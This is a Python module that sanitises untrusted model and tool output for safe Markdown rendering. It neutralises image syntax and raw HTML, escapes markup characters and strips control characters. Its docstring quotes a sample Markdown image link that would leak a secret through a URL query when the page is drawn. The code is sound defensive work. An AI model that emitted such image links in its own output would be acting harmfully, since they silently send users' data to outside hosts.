"""Untrusted text (requests, plans, results, answers) made safe to show as Markdown.

Model and tool text must never make a reader's browser fetch anything: in Markdown an
image (``![x](http://host/p.png?d=secret)``, also by reference) is fetched when the page
is drawn, and raw HTML (``<img src=…>``) or an autolink may be rendered by some viewers.
Three forms, used by the dashboard (ui/safe_text.py) and the Markdown export:

- :func:`markdown_text` keeps Markdown (tables, lists, emphasis, code, links) but no image
  and no HTML: a WORD JOINER (U+2060, invisible) goes between ``!`` and ``[`` and after
  every ``<``. Image syntax needs ``![`` side by side, and a tag, comment or autolink needs
  ``<`` straight before a letter, ``/``, ``!`` or ``?``, so neither can form, wherever it
  stands. An invisible joiner rather than a backslash, because code spans and blocks can
  only be told apart with a full parser, and inside them a backslash would show.
- :func:`literal_text` shows text exactly as written: every character that can start a
  Markdown construct is backslash-escaped (``<`` written ``&lt;``), so none forms, and
  line breaks are kept.
- :func:`code_span` shows text as one inline code span.

All three first drop what no viewer can show: C0/C1 control characters (line breaks and
tabs kept), U+FFFE/U+FFFF, and lone surrogates (replaced by U+FFFD).
"""

from __future__ import annotations

import re

__all__ = ["code_span", "literal_text", "markdown_text", "printable"]

_JOINER = "\u2060"
# C0 controls but tab and line feed, DEL and C1 controls, and the two non-characters XML
# forbids; a carriage return is turned into a line feed before this applies
_UNPRINTABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]")
_SURROGATE = re.compile("[\ud800-\udfff]")
# what can start a Markdown construct anywhere (in Streamlit also $ for maths) …
_MARKUP = re.compile(r"([\\`*_{}\[\]<>!#|~&$])")
# … and only at the start of a line: list items, setext underlines, ordered lists
_LINE_START = re.compile(r"^([-+=]|\d{1,9}(?=[.)]))")
_BACKTICKS = re.compile("`+")


def printable(text: str) -> str:
    """``text`` without control characters and non-characters; lone surrogates as U+FFFD."""
    text = str(text).replace("\r\n", "\n").replace("\r", "\n")
    return _UNPRINTABLE.sub("", _SURROGATE.sub("\ufffd", text))


def markdown_text(text: str) -> str:
    """Markdown that renders as written, except that no image and no HTML can form."""
    return printable(text).replace("![", "!" + _JOINER + "[").replace("<", "<" + _JOINER)


def literal_text(text: str) -> str:
    """``text`` as Markdown that shows every character as written (no markup of any kind).

    Each line loses its leading white space (it would make an indented code block, which
    shows the escapes) and ends with a hard break, so line breaks stay where they were.
    """
    return "  \n".join(_literal_line(line.lstrip()) for line in printable(text).split("\n"))


def _literal_line(line: str) -> str:
    line = _MARKUP.sub(_escape, line)
    start = _LINE_START.match(line)
    if start is None:
        return line
    if start.group(1)[0].isdigit():  # "1." or "1)" starts an ordered list
        return start.group(1) + "\\" + line[start.end():]
    return "\\" + line


def _escape(found: re.Match[str]) -> str:
    # "<" as an entity, so that not even the text of a report holds "<tag"
    return "&lt;" if found.group() == "<" else "\\" + found.group()


def code_span(text: str) -> str:
    """``text`` (on one line) as an inline code span that nothing inside it can close."""
    body = " ".join(printable(text).split())
    if not body:
        return ""
    fence = "`" * (max((len(run) for run in _BACKTICKS.findall(body)), default=0) + 1)
    pad = " " if body[0] == "`" or body[-1] == "`" else ""  # one space each side is dropped
    return f"{fence}{pad}{body}{pad}{fence}"
